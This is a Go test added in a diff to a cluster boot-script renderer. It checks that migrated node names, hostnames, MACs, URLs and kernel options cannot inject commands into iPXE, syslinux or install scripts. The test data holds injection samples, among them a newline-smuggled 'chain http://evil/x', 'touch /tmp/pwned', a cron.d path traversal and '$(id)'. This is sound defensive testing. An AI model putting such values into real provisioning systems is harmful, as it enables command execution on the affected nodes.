@@ -174,3 +174,92 @@ func TestOverride(t *testing.T) {
 		t.Fatal("a template naming a missing field must fail")
 	}
 }
+
+// TestStoredValuesCannotInject: values as a database migrated from Luna
+// 1.2 may hold them (1.2 validated no name) never add a command or an
+// argument to a script: a boot script (iPXE, syslinux) whose node name,
+// host name, MAC, file names or server URL would break a line or a word is
+// refused with one line naming the value, kernel options may not break the
+// line, the install script refuses names with line breaks and interface
+// names that would leave its directory, and the boot menu leaves out nodes
+// it could not list safely. 1.2 names that are merely unusual (`_`, `.`)
+// still render.
+func TestStoredValuesCannotInject(t *testing.T) {
+	r := &Renderer{}
+	static := bootShapes()["static"]
+	for _, kind := range []string{"ipxe", "syslinux"} {
+		for _, bad := range []func(p *luna.BootParams){
+			func(p *luna.BootParams) { p.Name = "node001\nchain http://evil/x" },
+			func(p *luna.BootParams) { p.Name = "node 001" },
+			func(p *luna.BootParams) { p.Hostname = "node001.c luna.service=1" },
+			func(p *luna.BootParams) { p.Name = "node${x}" },
+			func(p *luna.BootParams) { p.MAC = "00:11:22:33:44:55\nshell" },
+			func(p *luna.BootParams) { p.KernelFile = "k initrd=evil" },
+			func(p *luna.BootParams) { p.InitrdFile = "i'" },
+			func(p *luna.BootParams) { p.BaseURL = base + "\nshell" },
+			func(p *luna.BootParams) { p.KernOpts = "console=ttyS0\nshell" },
+		} {
+			p := *static
+			bad(&p)
+			out, err := r.NodeBoot(kind, &p)
+			if err == nil || !strings.Contains(err.Error(), "cannot go into the boot script") || strings.Contains(err.Error(), "\n") {
+				t.Errorf("%s boot script for %+v: err %v, want a one-line refusal\n%s", kind, p, err, out)
+			}
+		}
+		p := *static
+		p.Name, p.Hostname = "node_01.a", "node_01.a.tight_net"
+		if _, err := r.NodeBoot(kind, &p); err != nil {
+			t.Errorf("%s boot script for a 1.2 name with '_' and '.': %v", kind, err)
+		}
+	}
+
+	full := installShapes()["full"]
+	for _, bad := range []func(p *luna.InstallParams){
+		func(p *luna.InstallParams) { p.Name = "node001\ntouch /tmp/pwned" },
+		func(p *luna.InstallParams) { p.Hostname = "node001\rtouch /tmp/pwned" },
+		func(p *luna.InstallParams) {
+			p.Interfaces = append([]luna.InstallIface(nil), p.Interfaces...)
+			p.Interfaces[2].Name = "../../etc/cron.d/x"
+		},
+		func(p *luna.InstallParams) {
+			p.Interfaces = append([]luna.InstallIface(nil), p.Interfaces...)
+			p.Interfaces[2].Name = "ib0\nreboot"
+		},
+	} {
+		p := *full
+		bad(&p)
+		if out, err := r.InstallScript(&p); err == nil || !strings.Contains(err.Error(), "cannot go into the install script") {
+			t.Errorf("install script for %+v: err %v, want a refusal\n%s", p, err, out)
+		}
+	}
+	// Quoted values may hold anything but line breaks in names.
+	p := *full
+	p.Name, p.Hostname = "node 001;$(id)", "node 001;$(id).cluster"
+	p.Interfaces = append([]luna.InstallIface(nil), p.Interfaces...)
+	p.Interfaces[2].Name = "ib 0;$(id)"
+	if _, err := r.InstallScript(&p); err != nil {
+		t.Errorf("install script with quoted metacharacters: %v", err)
+	}
+
+	out, err := r.Menu(MenuData{BaseURL: base, Nodes: []string{"node001", "bad name", "x\nshell", "n$x", "", "node_02"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var items []string
+	for _, l := range strings.Split(string(out), "\n") {
+		if strings.HasPrefix(l, "item ") && !strings.HasPrefix(l, "item --") && l != "item back Back" {
+			items = append(items, l)
+		}
+	}
+	if strings.Join(items, "|") != "item node001 node001|item node_02 node_02" {
+		t.Errorf("menu node items %q, want node001 and node_02 only", items)
+	}
+	for _, bad := range []string{"bad name", "item x\n", "n$x"} {
+		if strings.Contains(string(out), bad) {
+			t.Errorf("the menu holds %q:\n%s", bad, out)
+		}
+	}
+	if _, err := r.Menu(MenuData{BaseURL: base + " x", Nodes: []string{"node001"}}); err == nil {
+		t.Error("a menu with a server URL holding a space rendered")
+	}
+}
